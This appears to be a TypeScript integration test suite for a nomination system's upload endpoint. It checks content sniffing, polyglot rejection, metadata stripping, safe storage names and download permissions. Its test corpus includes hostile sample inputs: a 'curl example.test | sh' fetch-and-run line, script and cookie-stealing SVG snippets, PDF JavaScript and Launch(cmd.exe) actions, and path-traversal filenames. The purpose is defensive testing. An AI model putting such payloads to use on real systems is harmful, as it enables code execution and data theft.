import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { partHeaderSanitiser } from '../../api/http/multipart';
import { ApiClient, eventually, nominationForm, openCampaign, sampleNomination } from '../support/http';
import type { System } from '../support/system';
import { startSystem } from '../support/system';
import { GPS_LATITUDE, XMP_GPS, jpeg, jpegSegment, jpegWithGps, pdf, png, pngChunk, pngWithMetadata } from '../support/upload-fixtures';

let system: System;
let api: ApiClient;
let secretariat: ApiClient;
let campaignId = '';

beforeAll(async () => {
  system = await startSystem();
  await system.startWorker();
  api = new ApiClient(system.baseUrl);
  secretariat = await api.login('secretariat');
  // Self-nominations take no quota slot, so one campaign holds the whole corpus.
  campaignId = await openCampaign(secretariat, 'upload-corpus', '上传测试');
});
afterAll(async () => {
  await system?.stop();
});

const MB10 = 10 * 1024 * 1024;
const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');
const latin1 = (s: string) => Buffer.from(s, 'latin1');
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;

const WINDOWS_EXE = latin1('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00' + '\x00'.repeat(44) + '\x80\x00\x00\x00' + 'This program cannot be run in DOS mode.\r\r\n$' + 'PE\x00\x00L\x01');
const ELF = latin1('\x7fELF\x02\x01\x01\x00' + '\x00'.repeat(8) + '\x02\x00\x3e\x00\x01\x00\x00\x00');
const MACH_O = latin1('\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00');
const ZIP = latin1('PK\x03\x04\x14\x00\x00\x00\x08\x00\x00\x00\x00\x00' + 'payload.html' + 'PK\x05\x06' + '\x00'.repeat(18));
const HTML = Buffer.from('<!DOCTYPE html><html><body><script>fetch("/api/inbox")</script></body></html>');
const PDF_TAIL = 'trailer<</Root 1 0 R>>\n%%EOF\n';
const pdfWith = (objects: string, tail = PDF_TAIL) => Buffer.concat([latin1(`%PDF-1.7\n1 0 obj<</Type/Catalog${objects}>>endobj\n`), latin1(tail)]);

type Expected = 201 | { status: 413 | 415; code: string };
interface Sample {
  name: string;
  file: Buffer;
  fileName: string;
  claimedType?: string;
  expected: Expected;
}

const unsupported = { status: 415, code: 'unsupported-media-type' } as const;
const malformed = { status: 415, code: 'malformed-upload' } as const;
const unsafe = { status: 415, code: 'unsafe-upload' } as const;

const corpus: Sample[] = [
  // Wrong magic bytes: judged by content, whatever the name or the claimed type says.
  { name: 'plain text named .pdf', file: Buffer.from('这不是 PDF 文件'), fileName: 'form.pdf', claimedType: 'application/pdf', expected: unsupported },
  { name: 'PDF magic one byte wrong', file: latin1('%PDX-1.4\n%%EOF\n'), fileName: 'form.pdf', expected: unsupported },
  { name: 'empty file', file: Buffer.alloc(0), fileName: 'form.pdf', expected: unsupported },
  { name: 'Windows executable renamed .pdf', file: WINDOWS_EXE, fileName: 'form.pdf', claimedType: 'application/pdf', expected: unsupported },
  { name: 'ELF executable renamed .png', file: ELF, fileName: 'scan.png', claimedType: 'image/png', expected: unsupported },
  { name: 'Mach-O executable renamed .jpg', file: MACH_O, fileName: 'scan.jpg', claimedType: 'image/jpeg', expected: unsupported },
  { name: 'shell script renamed .pdf', file: Buffer.from('#!/bin/sh\ncurl example.test | sh\n'), fileName: 'form.pdf', expected: unsupported },
  { name: 'HTML named .jpg', file: HTML, fileName: 'scan.jpg', claimedType: 'image/jpeg', expected: unsupported },
  { name: 'SVG with a script named .png', file: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), fileName: 'scan.png', claimedType: 'image/png', expected: unsupported },
  { name: 'GIF', file: latin1('GIF89a\x01\x00\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x00;'), fileName: 'scan.gif', claimedType: 'image/gif', expected: unsupported },
  { name: 'TIFF', file: latin1('II*\x00\x08\x00\x00\x00\x00\x00'), fileName: 'scan.tif', expected: unsupported },
  { name: 'ZIP renamed .pdf', file: ZIP, fileName: 'form.pdf', expected: unsupported },
  { name: 'PDF with leading junk', file: Buffer.concat([Buffer.from('junk\n'), pdf()]), fileName: 'form.pdf', expected: unsupported },
  { name: 'PDF behind a UTF-8 byte-order mark', file: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), pdf()]), fileName: 'form.pdf', expected: unsupported },
  { name: 'HTML page with a PDF after it', file: Buffer.concat([HTML, pdf()]), fileName: 'form.pdf', expected: unsupported },

  // Polyglots: right magic, something else riding along.
  { name: 'PNG with a ZIP appended', file: Buffer.concat([png(), ZIP]), fileName: 'scan.png', expected: unsafe },
  { name: 'PNG with HTML appended', file: Buffer.concat([png(), HTML]), fileName: 'scan.png', expected: unsafe },
  { name: 'PNG with opaque bytes appended', file: Buffer.concat([png(), latin1('\x00\x13\x37 hidden data')]), fileName: 'scan.png', expected: unsafe },
  { name: 'JPEG with a second JPEG appended', file: Buffer.concat([jpeg(), jpeg()]), fileName: 'scan.jpg', expected: unsafe },
  { name: 'JPEG with HTML appended', file: Buffer.concat([jpeg(), HTML]), fileName: 'scan.jpg', expected: unsafe },
  { name: 'JPEG with a ZIP appended', file: Buffer.concat([jpeg(), ZIP]), fileName: 'scan.jpg', expected: unsafe },
  { name: 'JPEG with HTML in a comment segment', file: jpeg({ segments: [jpegSegment(0xfe, HTML)] }), fileName: 'scan.jpg', expected: unsafe },
  { name: 'PNG with a script in a tEXt chunk', file: png({ before: [pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), HTML]))] }), fileName: 'scan.png', expected: unsafe },
  { name: 'PNG with an SVG event handler in a private chunk', file: png({ before: [pngChunk('svgF', '<svg onload=alert(document.cookie)>')] }), fileName: 'scan.png', expected: unsafe },
  { name: 'PNG with a ZIP in a private chunk', file: png({ before: [pngChunk('zipF', ZIP)] }), fileName: 'scan.png', expected: unsafe },
  { name: 'PNG with an executable in a private chunk', file: png({ before: [pngChunk('exeF', WINDOWS_EXE)] }), fileName: 'scan.png', expected: unsafe },
  { name: 'PDF with HTML after %%EOF', file: Buffer.concat([pdf(), HTML]), fileName: 'form.pdf', expected: unsafe },
  { name: 'PDF with a ZIP after %%EOF', file: Buffer.concat([pdf(), ZIP]), fileName: 'form.pdf', expected: unsafe },
  { name: 'PDF with an ELF in a stream', file: pdfWith('', `2 0 obj<</Length 24>>stream\n${ELF.toString('latin1')}\nendstream\nendobj\n${PDF_TAIL}`), fileName: 'form.pdf', expected: unsafe },
  { name: 'PDF with a JavaScript open action', file: pdfWith('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'), fileName: 'form.pdf', expected: unsafe },
  { name: 'PDF with a JavaScript name in #-escapes', file: pdfWith('/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>'), fileName: 'form.pdf', expected: unsafe },
  { name: 'PDF with a Launch action', file: pdfWith('/OpenAction<</S/Launch/F(cmd.exe)>>'), fileName: 'form.pdf', expected: unsafe },
  { name: 'PDF with an embedded file', file: pdfWith('/Names<</EmbeddedFiles<</Names[(a.exe)2 0 R]>>>>'), fileName: 'form.pdf', expected: unsafe },
  { name: 'PDF with a javascript: link', file: pdfWith('/OpenAction<</S/URI/URI(javascript:alert(1))>>'), fileName: 'form.pdf', expected: unsafe },

  // Right magic, broken structure.
  { name: 'PDF without %%EOF', file: latin1('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n'), fileName: 'form.pdf', expected: malformed },
  { name: 'truncated JPEG', file: jpeg().subarray(0, 60), fileName: 'scan.jpg', expected: malformed },
  { name: 'JPEG magic then noise', file: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x04, 0, 0]), latin1('\x01\x02\x03 not a jpeg')]), fileName: 'scan.jpg', expected: malformed },
  { name: 'PNG with a corrupted chunk', file: (() => { const f = Buffer.from(png()); f[40] ^= 0xff; return f; })(), fileName: 'scan.png', expected: malformed },
  { name: 'PNG signature then HTML', file: Buffer.concat([png().subarray(0, 8), HTML]), fileName: 'scan.png', expected: malformed },

  // Size: the limit is inclusive.
  { name: 'PDF of 10 MB + 1 byte', file: pdf(MB10 + 1), fileName: 'form.pdf', expected: { status: 413, code: 'payload-too-large' } },
  { name: 'PDF of exactly 10 MB', file: pdf(MB10), fileName: 'form.pdf', expected: 201 },

  // Names are never used: hostile ones are neither obeyed nor a reason to refuse.
  { name: 'path traversal name ../../etc/passwd.png', file: png(), fileName: '../../etc/passwd.png', expected: 201 },
  { name: 'path traversal name ..\\..\\x.pdf', file: pdf(), fileName: '..\\..\\x.pdf', expected: 201 },
  { name: 'absolute name /tmp/sealed.pdf', file: pdf(), fileName: '/tmp/sealed.pdf', expected: 201 },
  { name: 'name with a NUL byte', file: jpeg(), fileName: 'scan\u0000.jpg.exe', expected: 201 },
  { name: 'name with control characters and 2000 characters', file: pdf(), fileName: `\u0001\u001b[31m${'很长的文件名'.repeat(330)}.pdf`, expected: 201 },
  { name: 'valid PNG named .pdf', file: png(), fileName: 'form.pdf', claimedType: 'application/pdf', expected: 201 },

  // Metadata: accepted, and stored without it.
  { name: 'JPEG with Exif GPS, XMP and a comment', file: jpegWithGps(), fileName: 'photo.jpg', expected: 201 },
  { name: 'PNG with eXIf, tEXt, zTXt, iTXt and tIME', file: pngWithMetadata(), fileName: 'scan.png', expected: 201 },
];

async function upload(sample: Pick<Sample, 'file' | 'fileName' | 'claimedType'>) {
  const form = nominationForm(sampleNomination({ channel: 'self' }), sample.file, sample.fileName, sample.claimedType ?? 'application/octet-stream');
  return api.post(`/api/campaigns/${campaignId}/nominations`, form);
}

/** The raw bytes: the API client reads bodies as text, which would mangle a binary file. */
async function download(token: string | undefined, caseId: string, query = '') {
  const res = await fetch(`${system.baseUrl}/api/nominations/${caseId}/sealed-form${query}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
  return { status: res.status, headers: res.headers, body: Buffer.from(await res.arrayBuffer()) };
}

async function tokenOf(username: string): Promise<string> {
  const res = await api.post('/api/auth/login', { username, password: 'demo-password' });
  expect(res.status).toBe(200);
  return res.body.token;
}

const LEAKS = [latin1('Exif\0'), GPS_LATITUDE, Buffer.from(XMP_GPS), Buffer.from('GPSLatitude'), Buffer.from('example location'), Buffer.from('example camera')];

test('the upload corpus: every file that is not a well-formed PDF, JPEG or PNG and nothing else is refused, every good one stored without metadata', async () => {
  const outcomes: { name: string; status: number; code?: string }[] = [];
  const stored: { name: string; caseId: string; original: Buffer; accessToken: string }[] = [];
  for (const sample of corpus) {
    const res = await upload(sample);
    outcomes.push({ name: sample.name, status: res.status, ...(res.status >= 400 && { code: res.body?.error?.code }) });
    if (res.status === 201) stored.push({ name: sample.name, caseId: res.body.caseId, original: sample.file, accessToken: res.body.accessToken });
  }
  const wronglyAccepted = corpus.filter((s, i) => s.expected !== 201 && outcomes[i].status < 300).length;
  console.log(`upload corpus: ${corpus.length} files tried, ${wronglyAccepted} accepted wrongly`);
  expect(outcomes).toEqual(corpus.map((s) => (s.expected === 201 ? { name: s.name, status: 201 } : { name: s.name, ...s.expected })));
  expect(wronglyAccepted).toBe(0);

  for (const { name, caseId, original, accessToken } of stored) {
    const view = await api.as(accessToken).get(`/api/nominations/${caseId}`);
    const file = await download(accessToken, caseId);
    expect({ name, status: file.status }).toEqual({ name, status: 200 });
    expect(view.body.sealedForm).toMatchObject({ sha256: sha256(file.body), size: file.body.length });
    for (const leak of LEAKS) expect({ name, leak: leak.toString('latin1'), found: file.body.includes(leak) }).toMatchObject({ found: false });
    if (name.startsWith('JPEG with Exif') || name.startsWith('PNG with eXIf')) expect(original.includes(GPS_LATITUDE)).toBe(true);
    else expect(file.body.equals(original)).toBe(true);
  }

  // Stored under generated names, inside the upload folder only.
  const uploadDir = system.config.uploadDir;
  const names = fs.readdirSync(uploadDir);
  expect(names.length).toBe(stored.length);
  for (const n of names) expect(n).toMatch(UUID);
  for (const escaped of ['../../etc/passwd.png', '../x.pdf', '../../x.pdf', '../sealed.pdf']) expect(fs.existsSync(path.resolve(uploadDir, escaped))).toBe(false);
});

test('control characters in a part header are replaced wherever the body is split into chunks, and file bytes are never touched', () => {
  const boundary = '----form7MA4YWxk';
  const file = Buffer.from([0x00, 0x01, 0x0d, 0x0a, 0x1b, 0x7f, 0x0d, 0x0a, 0x0d, 0x0a, 0x00]);
  const body = (name: string, content: Buffer) =>
    Buffer.concat([
      latin1(`--${boundary}\r\nContent-Disposition: form-data; name="nomination"\r\n\r\n{}\r\n`),
      latin1(`--${boundary}\r\nContent-Disposition: form-data; name="sealedForm"; filename="${name}"\r\nContent-Type: image/png\r\n\r\n`),
      content,
      latin1(`\r\n--${boundary}--\r\n`),
    ]);
  const sent = body('a\u0000b\u001b[0m\u007f.png', file);
  const expected = body('a_b_[0m_.png', file);
  for (let split = 0; split <= sent.length; split++) {
    const chunks = [Buffer.from(sent.subarray(0, split)), Buffer.from(sent.subarray(split))];
    const sanitise = partHeaderSanitiser(boundary);
    for (const chunk of chunks) sanitise(chunk);
    expect({ split, body: Buffer.concat(chunks).toString('latin1') }).toEqual({ split, body: expected.toString('latin1') });
  }
});

describe('downloading the sealed form', () => {
  let unitCase = '';
  let selfCase: { caseId: string; accessToken: string };
  const photo = jpegWithGps();

  beforeAll(async () => {
    const unit = await api.login('assoc-1');
    const res = await unit.post(`/api/campaigns/${campaignId}/nominations`, nominationForm(sampleNomination({ field: 'catering' }), photo, 'IMG_0001.jpg', 'image/jpeg'));
    expect(res.status).toBe(201);
    unitCase = res.body.caseId;
    const self = await upload({ file: pdf(), fileName: 'form.pdf' });
    expect(self.status).toBe(201);
    selfCase = self.body;
  });

  test('staff of the case get it as an attachment of its sniffed type, never to be rendered or cached', async () => {
    const token = await tokenOf('wg-catering');
    const res = await download(token, unitCase);
    expect(res.status).toBe(200);
    expect(Object.fromEntries(['content-type', 'content-disposition', 'x-content-type-options', 'content-security-policy', 'cache-control'].map((h) => [h, res.headers.get(h)]))).toEqual({
      'content-type': 'image/jpeg',
      'content-disposition': `attachment; filename="sealed-form-${unitCase}.jpg"`,
      'x-content-type-options': 'nosniff',
      'content-security-policy': "sandbox; default-src 'none'",
      'cache-control': 'private, no-store',
    });
    expect(res.body.length).toBeLessThan(photo.length);
    expect(res.body.includes(GPS_LATITUDE)).toBe(false);
    const view = await api.as(token).get(`/api/nominations/${unitCase}`);
    expect(view.body.sealedForm).toEqual(expect.objectContaining({ mediaType: 'image/jpeg', sha256: sha256(res.body), size: res.body.length }));
    const audit = await system.db.auditEntry.findMany({ where: { caseId: unitCase, action: 'sealed-form-downloaded' } });
    expect(audit.map((a) => a.actorId)).toEqual([expect.any(String)]);
  });

  test('the secretariat, auditors, the submitting unit and the applicant may download; other fields, units and cases get 404, the anonymous 401', async () => {
    const statuses: Record<string, number> = {};
    for (const user of ['secretariat', 'auditor', 'branch-catering', 'assoc-1', 'wg-energy', 'branch-energy', 'assoc-2', 'member-1'])
      statuses[user] = (await download(await tokenOf(user), unitCase)).status;
    statuses['applicant of another case'] = (await download(selfCase.accessToken, unitCase)).status;
    statuses['applicant of the case'] = (await download(selfCase.accessToken, selfCase.caseId)).status;
    statuses.anonymous = (await download(undefined, unitCase)).status;
    statuses['a forged token'] = (await download('la_forged', unitCase)).status;
    statuses['an unknown case'] = (await download(await tokenOf('secretariat'), '00000000-0000-4000-8000-000000000000')).status;
    expect(statuses).toEqual({
      secretariat: 200,
      auditor: 200,
      'branch-catering': 200,
      'assoc-1': 200,
      'wg-energy': 404,
      'branch-energy': 404,
      'assoc-2': 404,
      'member-1': 404,
      'applicant of another case': 404,
      'applicant of the case': 200,
      anonymous: 401,
      'a forged token': 401,
      'an unknown case': 404,
    });
  });

  test('after a resubmission the current form is served, an earlier one by its id, and a form of another case never', async () => {
    const unit = await api.login('assoc-1');
    const task = await eventually(() => secretariat.get('/api/inbox?kind=seal-check'), (r) => r.body.tasks?.some((t: { caseId: string }) => t.caseId === unitCase));
    const taskId = task.body.tasks.find((t: { caseId: string }) => t.caseId === unitCase).id;
    expect((await secretariat.post(`/api/tasks/${taskId}/complete`, { decision: 'request-resubmission', comment: '公章不清晰' })).status).toBe(200);
    await eventually(() => unit.get(`/api/nominations/${unitCase}`), (r) => r.body.status === 'resubmission-requested');
    const again = new FormData();
    again.append('sealedForm', new Blob([pngWithMetadata()], { type: 'image/png' }), '../重新扫描.png');
    expect((await unit.post(`/api/nominations/${unitCase}/sealed-form`, again)).status).toBe(200);

    const token = await tokenOf('secretariat');
    const [current, first] = await system.db.sealedForm.findMany({ where: { caseId: unitCase }, orderBy: { uploadedAt: 'desc' } });
    const latest = await download(token, unitCase);
    expect({ type: latest.headers.get('content-type'), sha: sha256(latest.body), disposition: latest.headers.get('content-disposition') }).toEqual({
      type: 'image/png',
      sha: current.sha256,
      disposition: `attachment; filename="sealed-form-${unitCase}.png"`,
    });
    const earlier = await download(token, unitCase, `?id=${first.id}`);
    expect({ status: earlier.status, type: earlier.headers.get('content-type'), sha: sha256(earlier.body) }).toEqual({ status: 200, type: 'image/jpeg', sha: first.sha256 });
    const otherCasesForm = await system.db.sealedForm.findFirstOrThrow({ where: { caseId: selfCase.caseId } });
    expect((await download(token, unitCase, `?id=${otherCasesForm.id}`)).status).toBe(404);
    expect((await download(token, unitCase, '?id=no-such-form')).status).toBe(404);
    expect((await download(token, unitCase, '?other=1')).status).toBe(400);
  });
});
